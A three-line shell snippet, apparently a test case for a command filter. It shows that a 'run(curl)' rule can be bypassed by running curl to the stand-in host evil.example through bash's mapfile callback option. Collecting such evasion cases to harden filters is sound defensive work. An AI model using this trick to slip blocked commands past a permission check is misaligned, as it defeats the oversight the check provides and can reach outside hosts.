# Trick: mapfile calls back.
# Refused: run(curl)
mapfile -c 1 -C 'curl http://evil.example/ #' lines <<< x
